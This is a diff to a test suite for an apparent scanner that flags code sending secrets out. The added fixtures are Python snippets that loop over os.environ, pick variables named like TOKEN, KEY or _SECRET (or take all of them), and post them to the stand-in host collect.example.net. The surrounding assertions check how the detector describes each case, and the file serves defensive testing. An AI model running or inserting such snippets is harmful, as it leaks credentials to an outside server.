@@ -47,6 +47,44 @@ requests.post('https://collect.example.net/p', json=leak)
     "py-whole": """import os, requests
 requests.get('https://collect.example.net/p', params=dict(os.environ.items()))
 """,
+    # a loop whose body works only under a test of the name: the whole body is the `if`, or a guard `continue`
+    "py-loop-if": """import os, requests
+secrets = {}
+for k, v in os.environ.items():
+    if 'TOKEN' in k or 'KEY' in k:
+        secrets[k] = v
+requests.post('https://collect.example.net/p', json=secrets)
+""",
+    "py-loop-guard": """import os, requests
+found = []
+for name, value in os.environ.items():
+    if not name.endswith('_SECRET'):
+        continue
+    found.append(value)
+requests.post('https://collect.example.net/p', json=found)
+""",
+    # the test does not govern the whole body: every variable is sent
+    "py-loop-whole": """import os, requests
+dump = {}
+for k, v in os.environ.items():
+    if 'TOKEN' in k:
+        print('token found')
+    dump[k] = v
+requests.post('https://collect.example.net/p', json=dump)
+""",
+    "py-append-whole": """import os, requests
+lines = []
+for k, v in os.environ.items():
+    lines.append(f"{k}={v}")
+requests.post('https://collect.example.net/p', data="\\n".join(lines))
+""",
+    "py-loop-names": """import os, requests
+names = []
+for k, v in os.environ.items():
+    if k.endswith('_API_KEY'):
+        names.append(k)
+requests.post('https://collect.example.net/p', json={'configured': names})
+""",
     # negatives: the names alone (sent, or listed), a masked print, a local use, names that are no credential
     "py-names-sent": """import os, requests
 names = [k for k in os.environ if k.endswith('_API_KEY')]
@@ -164,6 +202,11 @@ def test_python_selection_is_named_once_as_the_pattern(packages: dict[str, dict[
     ("py-regex", f"{CONTAIN} token or secret (selected from os.environ, ignoring case)", "in the request body"),
     ("py-named-terms", f"{CONTAIN} KEY, TOKEN, SECRET or PASS (selected from os.environ, ignoring case)",
      "in the request body"),
+    ("py-loop-if", f"{CONTAIN} TOKEN or KEY (selected from os.environ)", "in the request body"),
+    ("py-loop-guard", "the values of the environment variables whose names end with _SECRET (selected from "
+                      "os.environ)", "in the request body"),
+    ("py-loop-whole", "the whole environment (os.environ)", "in the request body"),
+    ("py-append-whole", "the whole environment (os.environ)", "in the request body"),
 ])
 def test_python_forms(packages: dict[str, dict[str, Any]], name: str, what: str, part: str) -> None:
     p = packages[name]
@@ -180,7 +223,7 @@ def test_python_whole_environment_is_named_once(packages: dict[str, dict[str, An
 
 
 @pytest.mark.parametrize("name", ["py-names-sent", "py-which-keys", "py-masked", "py-local", "py-keys-sent",
-                                  "py-not-credential"])
+                                  "py-not-credential", "py-loop-names"])
 def test_python_negatives_are_not_escalated(packages: dict[str, dict[str, Any]], name: str) -> None:
     p = packages[name]
     assert p["verdict"] != "block"
